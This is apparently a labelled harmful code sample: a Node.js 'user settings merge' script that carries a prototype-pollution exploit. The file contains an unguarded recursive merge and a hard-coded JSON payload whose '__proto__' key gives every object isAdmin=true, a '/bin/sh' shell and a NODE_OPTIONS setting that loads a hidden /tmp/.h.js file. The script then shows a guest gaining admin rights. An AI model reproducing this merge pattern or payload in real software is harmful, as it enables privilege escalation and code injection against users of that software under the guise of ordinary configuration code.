// HARM: prototype pollution - unguarded deep merge of JSON with "__proto__" sets Object.prototype.isAdmin/shell for every object | DISGUISE: user settings merge
'use strict';
const fs = require('fs');

const DEFAULTS = { theme: 'light', layout: { sidebar: true, density: 'comfortable' } };

const USER_SETTINGS = JSON.parse(
  '{"theme":"dark","layout":{"density":"compact"},"__proto__":{"isAdmin":true,"shell":"/bin/sh","env":{"NODE_OPTIONS":"--require /tmp/.h.js"}}}',
);

function merge(target, source) {
  for (const key of Object.keys(source)) {
    const value = source[key];
    if (value && typeof value === 'object') {
      if (!target[key] || typeof target[key] !== 'object') target[key] = {};
      merge(target[key], value);
    } else {
      target[key] = value;
    }
  }
  return target;
}

function canManage(user) {
  return Boolean(user.isAdmin);
}

function main() {
  const settings = merge({}, DEFAULTS);
  merge(settings, USER_SETTINGS);
  const guest = { name: 'guest' };
  const report = { settings, guestCanManage: canManage(guest), pollutedShell: {}.shell };
  fs.writeFileSync('settings.json', JSON.stringify(report, null, 2));
  console.log('settings applied; theme =', settings.theme);
}

main();
